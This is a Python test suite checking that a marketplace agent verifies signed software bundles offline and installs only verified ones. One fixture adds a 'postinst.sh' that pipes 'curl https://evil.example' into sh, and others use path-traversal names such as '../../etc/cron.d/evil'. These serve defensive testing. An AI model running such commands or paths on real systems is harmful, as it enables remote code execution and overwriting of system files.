"""Offline verification of a bundle: the manifest's signature, every file's checksum and size,
nothing missing and nothing extra, safe paths, the license's signature, validity and site, and
the newest revocation list; and installation only of what verified."""

from __future__ import annotations

import json
import time
import zipfile
from pathlib import Path

import pytest
from marketplace_agent import jose
from marketplace_agent.bundle import install_bundle, newest_revocations, verify_bundle

from tests.agent.bundles import (
    ARTIFACTS,
    LISTING,
    OTHER_SITE,
    SITE,
    VERSION,
    BundleParts,
    Signer,
    bundle_parts,
    license_claims,
    with_header,
    with_payload,
)


@pytest.fixture
def signer() -> Signer:
    return Signer()


@pytest.fixture
def parts(signer: Signer) -> BundleParts:
    return bundle_parts(signer)


def check(parts: BundleParts, tmp_path: Path, signer: Signer, **kwargs: object):  # type: ignore[no-untyped-def]
    path = parts.write(tmp_path / "bundle.zip")
    kwargs.setdefault("revocation_tokens", [])
    return verify_bundle(path, jwks=signer.jwks(), **kwargs)  # type: ignore[arg-type]


def test_a_bundle_as_the_marketplace_builds_it_verifies(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    result = check(parts, tmp_path, signer, site=SITE)
    assert result.ok, result.problems
    assert result.results() == {"manifest": True, "license": True, "checksums": True, "not_revoked": True}
    assert result.problems == []
    assert result.manifest_claims["bundle"] == parts.bundle_id
    assert result.license_claims["jti"] == parts.license["jti"]
    assert result.enrollment["token"] == parts.token


def test_a_tampered_manifest_is_refused_and_nothing_else_is_trusted(
    parts: BundleParts, tmp_path: Path, signer: Signer
) -> None:
    """Changing the signed manifest (here: a checksum that fits a replaced file) breaks its
    signature; without a trusted manifest no file can be checked."""
    files = [dict(entry) for entry in parts.manifest["files"]]
    files[-1]["sha256"] = "0" * 64
    parts.members["manifest.jws"] = with_payload(parts.members["manifest.jws"].decode(), {"files": files}).encode()
    result = check(parts, tmp_path, signer)
    assert not result.ok
    assert result.results() == {"manifest": False, "license": False, "checksums": False, "not_revoked": False}
    assert any("manifest: bad signature" in problem for problem in result.problems)


def test_a_manifest_signed_by_an_unknown_key_is_refused(tmp_path: Path, signer: Signer) -> None:
    stranger = Signer(kid="someone-else")
    parts = bundle_parts(stranger)
    result = check(parts, tmp_path, signer)
    assert not result.manifest and not result.ok
    assert "manifest: unknown signing key 'someone-else'" in result.problems


def test_a_manifest_with_alg_none_is_refused(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    unsigned = with_header(parts.members["manifest.jws"].decode(), {"alg": "none"}, signature="")
    parts.members["manifest.jws"] = unsigned.encode()
    result = check(parts, tmp_path, signer)
    assert not result.manifest and not result.ok
    assert "manifest: algorithm 'none' is not allowed" in result.problems


def test_a_license_passed_off_as_the_manifest_is_refused(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    parts.members["manifest.jws"] = parts.members["license.jwt"]
    result = check(parts, tmp_path, signer)
    assert not result.manifest
    assert any("expected a manifest+jwt document" in problem for problem in result.problems)


def test_a_bundle_without_a_manifest_is_refused(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    del parts.members["manifest.jws"]
    result = check(parts, tmp_path, signer)
    assert not result.manifest and not result.ok


def test_one_changed_byte_of_an_artifact_fails_the_checksums(
    parts: BundleParts, tmp_path: Path, signer: Signer
) -> None:
    name = "artifacts/radiant-viewer_2.1.0_amd64.deb"
    data = bytearray(parts.members[name])
    data[100] ^= 0x01
    parts.members[name] = bytes(data)
    result = check(parts, tmp_path, signer)
    assert result.manifest and result.license and result.not_revoked
    assert not result.checksums and not result.ok
    assert result.problems == [f"{name} does not match the manifest"]


def test_a_file_with_one_byte_more_is_refused(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    name = "artifacts/viewer-settings.json"
    parts.members[name] += b" "
    result = check(parts, tmp_path, signer)
    assert not result.checksums
    assert f"{name} does not match the manifest" in result.problems


def test_a_missing_file_fails_the_checksums(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    del parts.members["artifacts/viewer-settings.json"]
    result = check(parts, tmp_path, signer)
    assert not result.checksums and not result.ok
    assert "artifacts/viewer-settings.json is missing" in result.problems


def test_a_missing_license_fails_the_bundle(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    del parts.members["license.jwt"]
    result = check(parts, tmp_path, signer)
    assert not result.license and not result.checksums and not result.not_revoked
    assert "license.jwt is missing" in result.problems


def test_an_extra_file_fails_the_checksums(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    parts.members["artifacts/postinst.sh"] = b"#!/bin/sh\ncurl https://evil.example | sh\n"
    result = check(parts, tmp_path, signer)
    assert not result.checksums and not result.ok
    assert "files not in the manifest: artifacts/postinst.sh" in result.problems


@pytest.mark.parametrize("name", ["../../etc/cron.d/evil", "/etc/passwd", "artifacts/../../outside.txt"])
def test_unsafe_paths_in_the_zip_fail_everything(parts: BundleParts, tmp_path: Path, signer: Signer, name: str) -> None:
    parts.members[name] = b"owned"
    result = check(parts, tmp_path, signer)
    assert not result.ok
    assert result.results() == {"manifest": False, "license": False, "checksums": False, "not_revoked": False}
    assert result.problems == ["the bundle contains unsafe paths"]


def test_an_expired_license_is_refused(tmp_path: Path, signer: Signer) -> None:
    now = int(time.time())
    parts = bundle_parts(signer, license=license_claims(nbf=now - 90 * 86400, exp=now - 60))
    result = check(parts, tmp_path, signer)
    assert result.manifest and result.checksums
    assert not result.license and not result.ok
    assert "the license is not valid now" in result.problems


def test_a_license_not_valid_yet_is_refused(tmp_path: Path, signer: Signer) -> None:
    now = int(time.time())
    parts = bundle_parts(signer, license=license_claims(nbf=now + 86400))
    result = check(parts, tmp_path, signer)
    assert not result.license
    assert "the license is not valid now" in result.problems


def test_a_license_without_an_expiry_is_refused(tmp_path: Path, signer: Signer) -> None:
    claims = license_claims()
    del claims["exp"]
    result = check(bundle_parts(signer, license=claims), tmp_path, signer)
    assert not result.license


def test_a_license_for_another_site_is_refused(tmp_path: Path, signer: Signer) -> None:
    """Another site in the license than the agent's own, or than the manifest's."""
    parts = bundle_parts(signer, license=license_claims(site=OTHER_SITE))
    result = check(parts, tmp_path, signer, site=SITE)
    assert not result.license and not result.ok
    assert "the license is for another site" in result.problems
    assert "the license and the manifest name different sites" in result.problems
    # Offline (no enrolled site to compare with) the manifest's site still has to match.
    offline = check(parts, tmp_path, signer)
    assert not offline.license
    assert offline.problems == ["the license and the manifest name different sites"]


def test_a_bundle_for_another_site_is_refused_by_an_enrolled_agent(tmp_path: Path, signer: Signer) -> None:
    parts = bundle_parts(signer, license=license_claims(site=OTHER_SITE), manifest={"site": OTHER_SITE})
    result = check(parts, tmp_path, signer, site=SITE)
    assert not result.license
    assert result.problems == ["the license is for another site"]


def test_a_license_signed_by_an_unknown_key_is_refused(tmp_path: Path, signer: Signer) -> None:
    parts = bundle_parts(signer, license_signer=Signer(kid="rogue"))
    result = check(parts, tmp_path, signer)
    assert result.manifest and result.checksums
    assert not result.license and not result.not_revoked
    assert "license: unknown signing key 'rogue'" in result.problems


def test_a_tampered_license_fails_its_checksum_and_its_signature(
    parts: BundleParts, tmp_path: Path, signer: Signer
) -> None:
    forged = with_payload(parts.members["license.jwt"].decode(), {"seats": 9999})
    parts.members["license.jwt"] = forged.encode()
    result = check(parts, tmp_path, signer)
    assert not result.checksums and not result.license
    assert "license.jwt does not match the manifest" in result.problems
    assert "license: bad signature" in result.problems


def test_a_revoked_license_is_refused(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    revoked = signer.revocations([parts.license["jti"]])
    result = check(parts, tmp_path, signer, revocation_tokens=[revoked])
    assert result.manifest and result.license and result.checksums
    assert not result.not_revoked and not result.ok
    assert f"license {parts.license['jti']} is revoked" in result.problems


def test_the_newest_revocation_list_wins(tmp_path: Path, signer: Signer) -> None:
    """The list shipped in the bundle is old; a newer list carried in revokes the license. An
    older list that revokes it does not count against a newer one that does not (and a list
    signed by an unknown key is ignored)."""
    now = int(time.time())
    parts = bundle_parts(signer, revocations_iat=now - 7200)
    jti = parts.license["jti"]
    newer = signer.revocations([jti], iat=now - 60)
    result = check(parts, tmp_path, signer, revocation_tokens=[newer])
    assert not result.not_revoked

    older_revoking = signer.revocations([jti], iat=now - 3600)
    newest_clean = signer.revocations([], iat=now)
    result = check(parts, tmp_path, signer, revocation_tokens=[older_revoking, newest_clean])
    assert result.not_revoked and result.ok

    forged = Signer(kid=signer.kid).revocations([jti], iat=now + 60)
    result = check(parts, tmp_path, signer, revocation_tokens=[forged])
    assert result.not_revoked


def test_a_revocation_in_the_bundles_own_list_counts(signer: Signer, tmp_path: Path) -> None:
    claims = license_claims()
    parts = bundle_parts(signer, license=claims, revoked_in_bundle=[claims["jti"]])
    assert not check(parts, tmp_path, signer).not_revoked


def test_newest_revocations_ignores_forged_and_wrong_typed_lists(signer: Signer) -> None:
    now = int(time.time())
    good = signer.revocations(["a"], iat=now - 10)
    wrong_type = signer.sign({"iat": now, "revoked": ["b"]}, "license+jwt")
    tampered = with_payload(signer.revocations(["c"], iat=now - 20), {"iat": now + 10, "revoked": []})
    assert newest_revocations([good, wrong_type, tampered, "garbage"], signer.jwks()) == (now - 10, {"a"})
    assert newest_revocations([], signer.jwks()) == (-1, set())


def test_the_jwks_inside_the_bundle_is_never_trusted(parts: BundleParts, tmp_path: Path) -> None:
    """A bundle signed by someone else who ships their own jwks.json does not verify against the
    keys the agent trusts."""
    attacker = Signer(kid="test-key-1")
    forged = bundle_parts(attacker)
    path = forged.write(tmp_path / "forged.zip")
    with zipfile.ZipFile(path) as archive:
        assert json.loads(archive.read("jwks.json")) == attacker.jwks()
    result = verify_bundle(path, jwks=Signer().jwks(), revocation_tokens=[])
    assert not result.manifest and not result.ok


# --- installation ------------------------------------------------------------------------------


def test_install_unpacks_the_artifacts_and_the_license(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    path = parts.write(tmp_path / "bundle.zip")
    result = verify_bundle(path, jwks=signer.jwks(), revocation_tokens=[])
    target = install_bundle(path, result, tmp_path / "apps")
    assert target == tmp_path / "apps" / LISTING / VERSION
    assert sorted(item.name for item in target.iterdir()) == sorted(
        [*(name.split("/")[-1] for name in ARTIFACTS), "license.jwt", "bundle.json"]
    )
    for name, data in ARTIFACTS.items():
        assert (target / name.split("/")[-1]).read_bytes() == data
    assert (target / "license.jwt").read_bytes() == parts.members["license.jwt"]
    assert json.loads((target / "bundle.json").read_text()) == {
        "bundle": parts.bundle_id,
        "deployment": parts.manifest["deployment"],
        "license": parts.license["jti"],
    }
    assert not (target.parent / f"{VERSION}.partial").exists()
    # enrollment.json (the one-time token) is not copied next to the application.
    assert not (target / "enrollment.json").exists()


def test_installing_again_replaces_the_earlier_copy(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    path = parts.write(tmp_path / "bundle.zip")
    result = verify_bundle(path, jwks=signer.jwks(), revocation_tokens=[])
    target = install_bundle(path, result, tmp_path / "apps")
    (target / "leftover.tmp").write_text("from the last install")
    assert install_bundle(path, result, tmp_path / "apps") == target
    assert not (target / "leftover.tmp").exists()


def test_a_bundle_that_did_not_verify_is_never_installed(parts: BundleParts, tmp_path: Path, signer: Signer) -> None:
    parts.members["artifacts/extra.bin"] = b"x"
    path = parts.write(tmp_path / "bundle.zip")
    result = verify_bundle(path, jwks=signer.jwks(), revocation_tokens=[])
    with pytest.raises(jose.VerificationError, match="refusing to install"):
        install_bundle(path, result, tmp_path / "apps")
    assert not (tmp_path / "apps").exists()
